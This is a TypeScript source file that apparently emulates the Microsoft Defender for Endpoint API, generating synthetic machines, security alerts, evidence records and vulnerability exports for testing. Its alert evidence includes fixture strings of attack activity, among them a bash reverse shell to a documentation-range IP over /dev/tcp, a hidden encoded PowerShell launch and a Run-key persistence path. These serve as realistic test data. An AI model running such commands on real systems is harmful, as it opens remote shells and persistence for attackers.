// Deterministic entities shaped like test/fixtures (and the Defender docs). Immutable parts are
// regenerated from (seed, index) on demand; only the small mutable state of alerts and machines is
// kept in memory (see store.ts).
import { Rng } from './prng.js';
import { exportTimestamp, iso7, isoTrimmed } from './time.js';

const HOUR = 3600_000;
const DAY = 24 * HOUR;

// ---------------------------------------------------------------- machines

const hostWords = ['fin', 'hr', 'dev', 'ops', 'müller', 'zürich', '東京', 'são-paulo', 'øresund', 'kraków', 'straße', 'ελλάδα', 'build', 'sales'];
const users: Array<{ userName: string; domainName: string; upn: string }> = [
  { userName: 'jdoe', domainName: 'FABRIKAM', upn: 'jdoe@fabrikam.test' },
  { userName: 'jörg.müller', domainName: 'FABRIKAM', upn: 'joerg.mueller@fabrikam.test' },
  { userName: 'ana.sánchez', domainName: 'FABRIKAM', upn: 'ana.sanchez@fabrikam.test' },
  { userName: 'søren.kierkegaard', domainName: 'NORDIC', upn: 'soren@nordic.fabrikam.test' },
  { userName: '山田太郎', domainName: 'FABRIKAM-JP', upn: 'yamada@jp.fabrikam.test' },
  { userName: 'łukasz.wiśniewski', domainName: 'FABRIKAM', upn: 'lukasz.w@fabrikam.test' },
  { userName: 'zoë.dupont', domainName: 'FABRIKAM', upn: 'zoe.dupont@fabrikam.test' },
  { userName: 'svc_backup', domainName: 'FABRIKAM', upn: 'svc_backup@fabrikam.test' },
];
const rbacGroups: Array<[number, string]> = [
  [212, 'Workstations-EU'],
  [87, 'Servers-Prod'],
  [140, 'Linux-Build'],
  [33, 'Workstations-APAC'],
  [0, 'Unassigned'],
];

interface OsProfile {
  prefix: string;
  osPlatform: string;
  version: string | null;
  osBuild: number | null;
  osVersion: string;
  software: Array<[vendor: string, name: string, version: string]>;
  linux: boolean;
}
const osProfiles: OsProfile[] = [
  { prefix: 'wks', osPlatform: 'Windows11', version: '23H2', osBuild: 22631, osVersion: '10.0.22631.4317', linux: false, software: [['microsoft', 'windows_11', '10.0.22631.4317'], ['google', 'chrome', '131.0.6778.86'], ['microsoft', 'edge', '131.0.2903.70'], ['adobe', 'acrobat_reader_dc', '24.4.20272.0'], ['7-zip', '7-zip', '23.1.0.0']] },
  { prefix: 'lt', osPlatform: 'Windows10', version: '22H2', osBuild: 19045, osVersion: '10.0.19045.5131', linux: false, software: [['microsoft', 'windows_10', '10.0.19045.5131'], ['mozilla', 'firefox', '133.0.0.0'], ['microsoft', 'office', '16.0.17928.20156'], ['zoom', 'zoom', '6.2.11.0']] },
  { prefix: 'srv', osPlatform: 'WindowsServer2022', version: '21H2', osBuild: 20348, osVersion: '10.0.20348.2966', linux: false, software: [['microsoft', 'windows_server_2022', '10.0.20348.2966'], ['microsoft', '.net_framework', '4.8.4739.0'], ['microsoft', 'sql_server_2019', '15.0.4390.2'], ['oracle', 'jdk', '17.0.9.0']] },
  { prefix: 'lnx', osPlatform: 'Ubuntu', version: null, osBuild: null, osVersion: '22.4', linux: true, software: [['openbsd', 'openssh', '8.9.0.1'], ['openssl', 'openssl', '3.0.2.0'], ['linux', 'linux_kernel', '5.15.0.125'], ['python', 'python', '3.10.12.0']] },
  { prefix: 'rhel', osPlatform: 'RedHatEnterpriseLinux', version: null, osBuild: null, osVersion: '9.4', linux: true, software: [['openbsd', 'openssh', '8.7.0.0'], ['gnu', 'glibc', '2.34.0.0'], ['curl', 'curl', '7.76.1.0']] },
];

export interface MachineBase {
  index: number;
  id: string;
  computerDnsName: string;
  profile: OsProfile;
  rbac: [number, string];
  firstSeenMs: number;
  lastIp: string;
  json: Record<string, unknown>;
}

export function machineId(seed: number, index: number): string {
  return Rng.for(seed, 'machine-id', index).hex(40);
}

/** Immutable part of machine `index`; lastSeen, healthStatus and riskScore are mutable (store.ts). */
export function machineBase(seed: number, index: number, startMs: number): MachineBase {
  const r = Rng.for(seed, 'machine', index);
  const profile = r.pick(osProfiles);
  const word = r.pick(hostWords);
  const num = String(index).padStart(4, '0');
  const computerDnsName = profile.linux ? `${profile.prefix}-${word}-${num}` : `${profile.prefix}-${word}-${num}.corp.fabrikam.test`;
  const rbac = r.pick(rbacGroups);
  const firstSeenMs = startMs - r.int(30, 700) * DAY - r.int(0, DAY);
  const lastIp = `10.${r.int(0, 99)}.${r.int(0, 255)}.${r.int(1, 254)}`;
  const mac = r.hex(12).toUpperCase();
  const aad = !profile.linux && r.chance(0.7);
  const ipAddresses: Array<Record<string, unknown>> = [{ ipAddress: lastIp, macAddress: mac, type: 'Ethernet', operationalStatus: 'Up' }];
  if (r.chance(0.5)) ipAddresses.push({ ipAddress: `fe80::${r.hex(4)}:${r.hex(4)}:${r.hex(4)}:${r.hex(4)}`, macAddress: mac, type: 'Ethernet', operationalStatus: 'Up' });
  if (r.chance(0.3)) ipAddresses.push({ ipAddress: `192.168.${r.int(0, 255)}.${r.int(1, 254)}`, macAddress: r.hex(12).toUpperCase(), type: 'Wireless80211', operationalStatus: r.pick(['Up', 'Down']) });
  ipAddresses.push({ ipAddress: '127.0.0.1', macAddress: null, type: 'SoftwareLoopback', operationalStatus: 'Up' });
  const tags = [['Finance', 'VIP'], ['Prod'], [], ['Build', 'Linux'], ['Kiosk'], []][r.int(0, 5)]!;
  const json: Record<string, unknown> = {
    id: machineId(seed, index),
    mergedIntoMachineId: null,
    isPotentialDuplication: false,
    isExcluded: false,
    exclusionReason: null,
    computerDnsName,
    firstSeen: iso7(firstSeenMs),
    lastSeen: null, // mutable
    osPlatform: profile.osPlatform,
    osVersion: profile.linux ? profile.osVersion : null,
    osProcessor: 'x64',
    version: profile.version,
    lastIpAddress: lastIp,
    lastExternalIpAddress: `203.0.113.${r.int(1, 254)}`,
    agentVersion: profile.linux ? `101.24${r.int(10, 99)}.0003` : `10.8760.${profile.osBuild}.${r.int(1000, 5000)}`,
    osBuild: profile.osBuild,
    healthStatus: null, // mutable
    deviceValue: r.pick(['Normal', 'Normal', 'High', 'Low']),
    rbacGroupId: rbac[0],
    rbacGroupName: rbac[1],
    riskScore: null, // mutable
    exposureLevel: r.pick(['Low', 'Medium', 'High', 'None']),
    isAadJoined: aad,
    aadDeviceId: aad ? r.guid() : null,
    machineTags: tags,
    onboardingStatus: 'Onboarded',
    osArchitecture: '64-bit',
    managedBy: profile.linux ? 'MicrosoftDefenderForEndpoint' : 'Intune',
    managedByStatus: 'Success',
    ipAddresses,
    vmMetadata: null,
  };
  return { index, id: json.id as string, computerDnsName, profile, rbac, firstSeenMs, lastIp, json };
}

// ---------------------------------------------------------------- alerts

interface AlertTemplate {
  title: string;
  category: string;
  detectionSource: string;
  severities: string[];
  mitre: string[];
  threatFamilyName: string | null;
  threatName: string | null;
  evidence: Array<'User' | 'Process' | 'File' | 'Ip' | 'Url' | 'Registry'>;
}
const templates: AlertTemplate[] = [
  { title: 'Suspicious PowerShell command line', category: 'Execution', detectionSource: 'WindowsDefenderAtp', severities: ['Medium', 'High'], mitre: ['T1059.001', 'T1105'], threatFamilyName: null, threatName: null, evidence: ['User', 'Process', 'File'] },
  { title: "'BundleInstaller' unwanted software was detected", category: 'UnwantedSoftware', detectionSource: 'WindowsDefenderAv', severities: ['Low', 'Informational'], mitre: [], threatFamilyName: 'BundleInstaller', threatName: 'PUA:Win32/BundleInstaller', evidence: ['File'] },
  { title: 'Possible credential dumping via LSASS access', category: 'CredentialAccess', detectionSource: 'WindowsDefenderAtp', severities: ['High'], mitre: ['T1003.001'], threatFamilyName: null, threatName: null, evidence: ['User', 'Process', 'File'] },
  { title: 'Connection to a known command-and-control server', category: 'CommandAndControl', detectionSource: 'WindowsDefenderAtp', severities: ['High', 'Medium'], mitre: ['T1071.001', 'T1571'], threatFamilyName: null, threatName: null, evidence: ['Ip', 'Url', 'Process'] },
  { title: 'Suspicious registry run key persistence', category: 'Persistence', detectionSource: 'WindowsDefenderAtp', severities: ['Medium'], mitre: ['T1547.001'], threatFamilyName: null, threatName: null, evidence: ['Registry', 'Process', 'User'] },
  { title: "'Mimikatz' hacktool was prevented", category: 'Malware', detectionSource: 'WindowsDefenderAv', severities: ['High'], mitre: ['T1003'], threatFamilyName: 'Mimikatz', threatName: 'HackTool:Win32/Mimikatz.D', evidence: ['File', 'Process'] },
  { title: 'Reverse shell on a Linux host', category: 'Execution', detectionSource: 'WindowsDefenderAtp', severities: ['High'], mitre: ['T1059.004'], threatFamilyName: null, threatName: null, evidence: ['Process', 'Ip', 'File', 'User'] },
  { title: 'Multi-stage incident involving Initial access', category: 'InitialAccess', detectionSource: 'CustomDetection', severities: ['Informational', 'Low'], mitre: ['T1566.001'], threatFamilyName: null, threatName: null, evidence: [] },
];

const evidenceKeys = [
  'entityType',
  'evidenceCreationTime',
  'sha1',
  'sha256',
  'fileName',
  'filePath',
  'processId',
  'processCommandLine',
  'processCreationTime',
  'parentProcessId',
  'parentProcessCreationTime',
  'parentProcessFileName',
  'parentProcessFilePath',
  'ipAddress',
  'url',
  'registryKey',
  'registryHive',
  'registryValueType',
  'registryValue',
  'accountName',
  'domainName',
  'userSid',
  'aadUserId',
  'userPrincipalName',
  'detectionStatus',
] as const;

/** One evidence entity as JSON: every documented key, in order, null unless given. */
function evidenceJson(fields: Partial<Record<(typeof evidenceKeys)[number], string | number>>): string {
  const out: string[] = [];
  for (const k of evidenceKeys) {
    const v = fields[k];
    out.push(`"${k}":${v === undefined ? 'null' : JSON.stringify(v)}`);
  }
  return `{${out.join(',')}}`;
}

/**
 * Immutable alert parts, pre-serialised: a page of 10 000 alerts is string concatenation plus the
 * few mutable fields, not 10 000 object graphs for the garbage collector.
 */
export interface AlertBase {
  id: string;
  machineIndex: number;
  /** `"id":…,"incidentId":…,"investigationId":…` */
  head: string;
  /** `"severity":"…"` */
  severity: string;
  /** `"detectionSource":…` through `"lastEventTime":…` */
  mid: string;
  /** `"machineId":…` through `"relatedUser":…` */
  tail: string;
  /** the evidence array as JSON (`[]` when none) */
  evidence: string;
}

export function alertId(seed: number, index: number): string {
  const r = Rng.for(seed, 'alert-id', index);
  return `da${r.digits(18)}_${r.chance(0.5) ? '-' : ''}${r.int(100000000, 2147483647)}`;
}

/** Immutable part of alert `index` created at `createdMs` on machine `machineIndex`. */
const allEvidenceTypes: AlertTemplate['evidence'] = ['User', 'Process', 'File', 'Ip', 'Url', 'Registry'];

/** `evidencePerAlert` fixes the number of evidence items of every alert (benchmarks); otherwise 0–5, ~20% none. */
export function alertBase(seed: number, index: number, createdMs: number, machine: MachineBase, tenantId: string, evidencePerAlert?: number): AlertBase {
  const r = Rng.for(seed, 'alert', index);
  const t = r.pick(templates);
  const user = t.evidence.length === 0 && r.chance(0.5) ? null : r.pick(users);
  const firstEvent = createdMs - r.int(5_000, 600_000);
  const lastEvent = firstEvent + r.int(0, 30_000);
  const head = {
    id: alertId(seed, index),
    incidentId: 40000 + r.int(0, 99999),
    investigationId: r.chance(0.7) ? 900000 + r.int(0, 99999) : null,
  };
  const tail = {
    detectionSource: t.detectionSource,
    detectorId: r.guid(),
    category: t.category,
    threatFamilyName: t.threatFamilyName,
    title: t.title,
    description: `${t.title} on ${machine.computerDnsName}. (Emulator text, seed ${seed}, alert ${index}.)`,
    alertCreationTime: iso7(createdMs),
    firstEventTime: iso7(firstEvent),
    lastEventTime: iso7(lastEvent),
  };
  // ~20% of alerts carry no evidence even when their template has some (the "empty evidence" edge case).
  const evidenceCount = evidencePerAlert ?? (t.evidence.length === 0 || r.chance(0.2) ? 0 : r.int(1, Math.min(5, t.evidence.length + 2)));
  const types = t.evidence.length ? t.evidence : allEvidenceTypes;
  const evidence: string[] = [];
  for (let i = 0; i < evidenceCount; i++) {
    const type = types[i % types.length]!;
    const at = isoTrimmed(createdMs + 100 * (i + 1));
    const e: Parameters<typeof evidenceJson>[0] = { entityType: type, evidenceCreationTime: at };
    const u = user ?? users[0]!;
    switch (type) {
      case 'User':
        Object.assign(e, { accountName: u.userName, domainName: u.domainName, userSid: `S-1-5-21-1004336348-1177238915-682003330-${r.int(1000, 99999)}`, aadUserId: r.guid(), userPrincipalName: u.upn });
        break;
      case 'Process': {
        const win = !machine.profile.linux;
        Object.assign(e, {
          sha1: r.hex(40),
          sha256: r.hex(64),
          fileName: win ? 'powershell.exe' : 'bash',
          filePath: win ? 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0' : '/usr/bin',
          processId: r.int(100, 60000),
          processCommandLine: win ? `powershell.exe -nop -w hidden -enc ${r.hex(24)}` : `bash -i >& /dev/tcp/198.51.100.${r.int(1, 254)}/4444 0>&1`,
          processCreationTime: iso7(firstEvent),
          parentProcessId: r.int(100, 60000),
          parentProcessCreationTime: iso7(firstEvent - 60_000),
          parentProcessFileName: win ? 'explorer.exe' : 'sshd',
          parentProcessFilePath: win ? 'C:\\Windows' : '/usr/sbin',
          accountName: u.userName,
          domainName: u.domainName,
          detectionStatus: r.pick(['Detected', 'Prevented', 'Blocked']),
        });
        break;
      }
      case 'File':
        Object.assign(e, {
          sha1: r.hex(40),
          sha256: r.hex(64),
          fileName: r.pick(['payload.ps1', 'setup_bundle.exe', 'mimikatz.exe', 'rapport_été.docm', 'инвойс.pdf.exe', 'libhelper.so']),
          filePath: machine.profile.linux ? '/tmp/.cache' : `C:\\Users\\${u.userName}\\Downloads`,
          detectionStatus: r.pick(['Detected', 'Prevented', 'Remediated']),
        });
        break;
      case 'Ip':
        Object.assign(e, { ipAddress: `198.51.100.${r.int(1, 254)}` });
        break;
      case 'Url':
        Object.assign(e, { url: `https://cdn-${r.hex(6)}.example.net/stage2` });
        break;
      case 'Registry':
        Object.assign(e, {
          registryKey: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
          registryHive: 'HKEY_CURRENT_USER',
          registryValueType: 'String',
          registryValue: `C:\\Users\\${u.userName}\\AppData\\Roaming\\updater.exe`,
        });
        break;
    }
    evidence.push(evidenceJson(e));
  }
  const techniques = t.mitre.length && r.chance(0.85) ? t.mitre : [];
  const j = JSON.stringify;
  return {
    id: head.id,
    machineIndex: machine.index,
    head: (`"id":${j(head.id)},"incidentId":${head.incidentId},"investigationId":${j(head.investigationId)}`),
    severity: `"severity":${j(r.pick(t.severities))}`,
    mid: j(tail).slice(1, -1),
    tail: j({
      machineId: machine.id,
      computerDnsName: machine.computerDnsName,
      rbacGroupName: machine.rbac[1],
      aadTenantId: tenantId,
      threatName: t.threatName,
      mitreTechniques: techniques,
      relatedUser: user ? { userName: user.userName, domainName: user.domainName } : null,
    }).slice(1, -1),
    evidence: `[${evidence.join(',')}]`,
  };
}

/** The mutable part of an alert: what an update changes. */
export interface AlertState {
  index: number;
  id: string;
  createdMs: number;
  lastUpdateMs: number;
  status: 'New' | 'InProgress' | 'Resolved';
  assignedTo: string | null;
  classification: string | null;
  determination: string | null;
  investigationState: string;
  resolvedMs: number | null;
  comments: Array<{ comment: string; createdBy: string; createdTime: string }>;
  /** how many times this alert changed since it was created */
  version: number;
}

/**
 * An alert's immutable parts as UTF-8 bytes, split around the mutable fields: a page is written by
 * copying these and encoding only the few fields an update changes. Off-heap, so a large cache does
 * not slow the garbage collector.
 */
export interface CompiledAlert {
  id: string;
  /** `{"id":…,"incidentId":…,"investigationId":…,"assignedTo":` */
  start: Buffer;
  /** `,"severity":…,"status":"` */
  severity: Buffer;
  /** `","detectionSource":…,"lastEventTime":"…","lastUpdateTime":"` */
  mid: Buffer;
  /** `,"machineId":…,"relatedUser":…,"comments":` */
  tail: Buffer;
  /** the evidence array */
  evidence: Buffer;
}

/**
 * Bytes for compiled alerts are bump-allocated from 256 KB slabs: one Buffer per alert (or per
 * 8 KB pool) costs more than generating the alert.
 */
export class ByteArena {
  private slab = Buffer.allocUnsafeSlow(0);
  private used = 0;

  put(text: string): Buffer {
    const max = text.length * 3;
    if (this.used + max > this.slab.length) {
      this.slab = Buffer.allocUnsafeSlow(Math.max(256 * 1024, max));
      this.used = 0;
    }
    const n = this.slab.write(text, this.used, 'utf8');
    const out = this.slab.subarray(this.used, this.used + n);
    this.used += n;
    return out;
  }
}

export function compileAlert(base: AlertBase, arena: ByteArena): CompiledAlert {
  return {
    id: base.id,
    start: arena.put(`{${base.head},"assignedTo":`),
    severity: arena.put(`,${base.severity},"status":"`),
    mid: arena.put(`",${base.mid},"lastUpdateTime":"`),
    tail: arena.put(`,${base.tail},"comments":`),
    evidence: arena.put(base.evidence),
  };
}

const evidenceKey = Buffer.from(',"evidence":');
const noEvidence = Buffer.from(',"evidence":[]}');
const closeBrace = Buffer.from('}');

/** The API entity for one alert version as pieces to write, keys in the fixture's order. */
export function alertPieces(c: CompiledAlert, s: AlertState, withEvidence: boolean): Array<string | Buffer> {
  const j = JSON.stringify;
  const middle = `${s.status}","classification":${j(s.classification)},"determination":${j(s.determination)},"investigationState":"${s.investigationState}`;
  const times = `${isoTrimmed(s.lastUpdateMs)}","resolvedTime":${s.resolvedMs === null ? 'null' : `"${iso7(s.resolvedMs)}"`}`;
  const comments = s.comments.length ? j(s.comments) : '[]';
  return withEvidence
    ? [c.start, j(s.assignedTo), c.severity, middle, c.mid, times, c.tail, comments, evidenceKey, c.evidence, closeBrace]
    : [c.start, j(s.assignedTo), c.severity, middle, c.mid, times, c.tail, comments, noEvidence];
}

/** The same entity as one JSON string (single-alert responses). */
export function alertJson(c: CompiledAlert, s: AlertState, withEvidence: boolean): string {
  return Buffer.concat(alertPieces(c, s, withEvidence).map((p) => (typeof p === 'string' ? Buffer.from(p) : p))).toString('utf8');
}

// ---------------------------------------------------------------- vulnerabilities

const cveYears = [2021, 2022, 2023, 2024, 2025];
const severities: Array<[string, number]> = [
  ['Critical', 9.8],
  ['High', 8.1],
  ['High', 7.5],
  ['Medium', 6.5],
  ['Medium', 5.3],
  ['Low', 3.1],
];
const exploitability = ['NoExploit', 'NoExploit', 'ExploitIsPublic', 'ExploitIsVerified', 'ExploitIsInKit'];

/** Fields every export record shares with the delta API; `extra` adds status/eventTimestamp there. */
export function vulnerabilityJson(seed: number, recordIndex: number, machine: MachineBase, perMachineIndex: number, startMs: number, extra = ''): { id: string; json: string } {
  const r = Rng.for(seed, 'vuln', recordIndex);
  const p = machine.profile;
  const sw = p.software[perMachineIndex % p.software.length]!;
  // CVE number unique per (machine, perMachineIndex): the record id never repeats within a snapshot.
  const cve = `CVE-${cveYears[perMachineIndex % cveYears.length]}-${String(1000 + perMachineIndex).padStart(4, '0')}`;
  const id = `${machine.id}_${sw[1]}_${sw[2]}_${cve}_`;
  const [sev, score] = r.pick(severities);
  const kb = !p.linux && r.chance(0.5) ? String(5040000 + r.int(0, 20000)) : null;
  const firstSeen = startMs - r.int(1, 200) * DAY;
  const lastSeen = startMs - r.int(0, 20) * HOUR;
  const diskPaths = p.linux ? [`/usr/lib/${sw[1]}/${sw[1]}`, `/opt/${sw[0]}/${sw[1]}/bin/${sw[1]}`] : [`C:\\Program Files\\${sw[0]}\\${sw[1]}\\${sw[1]}.exe`];
  const registryPaths = p.linux ? [] : [`HKEY_LOCAL_MACHINE\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\${sw[0]} ${sw[1]}`];
  // Built as a string (not JSON.stringify of an object): pages of 200 000 records are generated on the fly.
  const json =
    `{"id":${JSON.stringify(id)},"deviceId":"${machine.id}","rbacGroupName":${JSON.stringify(machine.rbac[1])},"deviceName":${JSON.stringify(machine.computerDnsName)},` +
    `"osPlatform":"${p.osPlatform}","osVersion":"${p.osVersion}","osArchitecture":"x64","softwareVendor":${JSON.stringify(sw[0])},"softwareName":${JSON.stringify(sw[1])},` +
    `"softwareVersion":"${sw[2]}","cveId":"${cve}","cvssScore":${score},"vulnerabilitySeverityLevel":"${sev}",` +
    `"recommendedSecurityUpdate":${kb ? `"KB${kb} security update"` : 'null'},"recommendedSecurityUpdateId":${kb ? `"${kb}"` : 'null'},"recommendedSecurityUpdateUrl":${kb ? `"https://support.microsoft.com/help/${kb}"` : 'null'},` +
    `"diskPaths":${JSON.stringify(diskPaths)},"registryPaths":${JSON.stringify(registryPaths)},` +
    `"lastSeenTimestamp":"${exportTimestamp(lastSeen)}","firstSeenTimestamp":"${exportTimestamp(firstSeen)}","exploitabilityLevel":"${r.pick(exploitability)}",` +
    `"recommendationReference":"va-_-${sw[0]}-_-${sw[1]}","securityUpdateAvailable":${kb !== null}${extra}}`;
  return { id, json };
}
